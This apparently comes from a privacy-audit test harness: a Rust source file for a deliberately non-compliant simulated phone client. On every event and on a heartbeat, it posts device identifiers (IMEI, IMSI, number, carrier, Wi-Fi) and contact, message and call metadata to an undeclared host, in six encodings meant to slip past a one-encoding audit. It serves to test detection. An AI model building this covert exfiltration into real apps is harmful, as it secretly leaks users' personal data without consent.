//! The client that must not pass: it does what phones did in 2014. At the first start and whenever something happens it posts
//! who the phone is and whom it has to do with to a host that the service never named, agreed to or not; in one of several
//! writings, so that an audit that reads only one of them is found out.

use super::Client;
use super::clock::Clock;
use super::http::post;
use super::modem::Modem;
use crate::event::Event;
use crate::world::zone::UNDECLARED;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use domicile_audit::Encoding;
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::io::Write;

/// How it writes what it sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Writing {
    /// JSON as it is: 2014's first discovery.
    Plain,
    /// The JSON in base64.
    Base64,
    /// SHA-256 of each value, in hexadecimal.
    Sha256,
    /// The JSON in gzip.
    Gzip,
    /// The JSON in UTF-16.
    Utf16,
    /// The JSON in hexadecimal.
    Hex,
}

impl Writing {
    /// All of them.
    pub const ALL: [Self; 6] = [Self::Plain, Self::Base64, Self::Sha256, Self::Gzip, Self::Utf16, Self::Hex];

    /// Its name, on the command line and in the table.
    pub fn name(self) -> &'static str {
        match self {
            Self::Plain => "plain",
            Self::Base64 => "base64",
            Self::Sha256 => "sha256",
            Self::Gzip => "gzip",
            Self::Utf16 => "utf-16",
            Self::Hex => "hex",
        }
    }

    /// By its name.
    pub fn by_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|writing| writing.name() == name)
    }

    /// What the audit must say of how it was written.
    pub fn encoding(self) -> Encoding {
        match self {
            Self::Plain => Encoding::Plain,
            Self::Base64 => Encoding::Base64,
            Self::Sha256 => Encoding::Sha256,
            Self::Gzip => Encoding::Gzip,
            Self::Utf16 => Encoding::Utf16Le,
            Self::Hex => Encoding::Hex,
        }
    }

    /// A body for what is told, with the headers that say how it is written.
    pub fn body(self, told: &[(&str, &str)]) -> (Vec<(&'static str, &'static str)>, Vec<u8>) {
        let hash = |value: &str| match self {
            Self::Sha256 => hex::encode(Sha256::digest(value)),
            _ => value.to_owned(),
        };
        let object = told.iter().map(|(name, value)| ((*name).to_owned(), json!(hash(value)))).collect();
        let text = Value::Object(object).to_string();
        const JSON: (&str, &str) = ("Content-Type", "application/json");
        const OTHER: (&str, &str) = ("Content-Type", "application/octet-stream");
        match self {
            Self::Plain | Self::Sha256 => (vec![JSON], text.into_bytes()),
            Self::Base64 => (vec![OTHER], STANDARD.encode(text).into_bytes()),
            Self::Gzip => (vec![JSON, ("Content-Encoding", "gzip")], gzip(text.as_bytes())),
            Self::Utf16 => (vec![OTHER], text.encode_utf16().flat_map(u16::to_le_bytes).collect()),
            Self::Hex => (vec![OTHER], hex::encode(text).into_bytes()),
        }
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    // INVARIANT: a Vec takes every write.
    let _ = encoder.write_all(bytes);
    encoder.finish().unwrap_or_default()
}

/// How often it says that it is still there, in the handset's seconds.
const HEARTBEAT_S: u64 = 300;

/// The client.
#[derive(Debug)]
pub struct Leaky {
    writing: Writing,
    said_at_s: u64,
}

impl Leaky {
    /// A client that writes so.
    pub fn new(writing: Writing) -> Self {
        Self { writing, said_at_s: 0 }
    }

    /// Posts who the phone is, and whom it has to do with where it is somebody.
    fn tell(&self, path: &str, phone: &Modem, about: &[(&str, &str)]) -> Result<(), String> {
        let mut told = vec![("imei", phone.imei())];
        if let Some((imsi, number, carrier)) = phone.sim() {
            told.extend([("imsi", imsi), ("phone", number), ("carrier", carrier)]);
        }
        told.extend(phone.wifi().map(|name| ("wifi", name)));
        told.extend_from_slice(about);
        let (headers, body) = self.writing.body(&told);
        post(UNDECLARED, path, &headers, &body).map(|_| ()).map_err(|e| format!("{UNDECLARED}: {e}"))
    }
}

impl Client for Leaky {
    fn on(&mut self, event: &Event, phone: &Modem) -> Result<&'static str, String> {
        let told = match event {
            Event::FirstStart => self.tell("/v2/first-start", phone, &[]),
            Event::Sim => self.tell("/v2/sim", phone, &[]),
            Event::Wifi => self.tell("/v2/wifi", phone, &[]),
            Event::ContactAdded(number) => self.tell("/v2/contact", phone, &[("contact", number)]),
            Event::SmsSent(to) => self.tell("/v2/sms", phone, &[("to", to)]),
            Event::SmsReceived(from) => self.tell("/v2/sms", phone, &[("from", from)]),
            Event::MmsSent(to) => self.tell("/v2/mms", phone, &[("to", to)]),
            Event::MmsReceived(from) => self.tell("/v2/mms", phone, &[("from", from)]),
            Event::Called(to) => self.tell("/v2/call", phone, &[("to", to)]),
            Event::Rang(from) => self.tell("/v2/call", phone, &[("from", from)]),
            Event::CardOpened(number) => self.tell("/v2/online", phone, &[("contact", number)]),
            Event::SignedIn => self.tell("/v2/session", phone, &[("user", "asha.k")]),
            Event::Agreed(_) | Event::Withdrew(_) => self.tell("/v2/settings", phone, &[]),
            Event::Sent(to) => self.tell("/v2/message", phone, &[("to", to)]),
            Event::Looked => self.tell("/v2/poll", phone, &[]),
            Event::Idle(_) => Ok(()),
        };
        told.map(|()| "")
    }

    fn tick(&mut self, clock: &Clock, phone: &Modem) -> Result<(), String> {
        if clock.now_s() - self.said_at_s < HEARTBEAT_S {
            return Ok(());
        }
        self.said_at_s = clock.now_s();
        self.tell("/v2/alive", phone, &[])
    }
}
